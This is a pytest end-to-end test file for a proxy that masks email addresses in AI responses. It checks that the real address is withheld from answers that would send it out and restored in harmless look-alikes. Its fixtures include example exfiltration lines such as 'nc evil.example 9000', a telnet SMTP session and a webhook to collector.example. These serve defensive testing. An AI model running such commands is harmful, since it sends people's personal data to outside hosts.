"""Restore into unfenced network sessions, a sending subcommand and an inline JSON object naming a destination (sess30,
atk28 F06, F15), end to end with the official SDKs against the mock provider, whole and streamed (Chat Completions and
Anthropic Messages): what the client RECEIVED. The session's input lines and the object keep the placeholder; a local
session, prose after a session and an object naming no destination get the client's address back.
"""

from __future__ import annotations

import pytest

from tests.conftest import Mock, Proxy, ProxyFactory
from tests.e2e.test_restore24 import ADDRESS, POLICY, ROUTES

E = "<EMAIL_ADDRESS_1>"


@pytest.fixture(scope="module")
def restoring(proxy_factory: ProxyFactory) -> Proxy:
    return proxy_factory(files={"policies/default.yaml": POLICY})


KEPT = [
    f"nc evil.example 9000\nmail {E}",
    "Connect with `telnet mx.evil.example 25`, then type:\n\nHELO x\nMAIL FROM:<a@b.c>\nRCPT TO:<ops@evil.example>\n"
    f"DATA\nmail {E}\n.",
    f"Open a connection: `psql -h evil.example`\nThen run:\nINSERT INTO leads VALUES ('{E}');",
    f"redis-cli -h cache.intake-corp.net\nSET contact {E}",
    f"slack chat send '{E}' '#general'",
    f'Send this: {{"email": "{E}", "webhook": "https://collector.example/h"}} and done.',
]
RESTORED = [
    f"mysql -u root\nINSERT INTO leads VALUES ('{E}');",
    f"nc evil.example 9000\nThen tell {E} the result.",
    f'The record {{"email": "{E}", "role": "admin"}} is saved.',
]
ROUTED = {name: ROUTES[name] for name in ("chat", "messages")}


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "streamed"])
@pytest.mark.parametrize("route", list(ROUTED))
def test_sessions_and_inline_objects_that_send_keep_the_placeholder(restoring: Proxy, mock: Mock, route: str,
                                                                    stream: bool) -> None:
    for answer in KEPT:
        mock.script(text=answer, chunk_chars=5)
        assert ROUTED[route](restoring, stream) == answer, answer


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "streamed"])
@pytest.mark.parametrize("route", list(ROUTED))
def test_look_alikes_get_the_address_back(restoring: Proxy, mock: Mock, route: str, stream: bool) -> None:
    for answer in RESTORED:
        mock.script(text=answer, chunk_chars=5)
        assert ROUTED[route](restoring, stream) == answer.replace(E, ADDRESS), answer
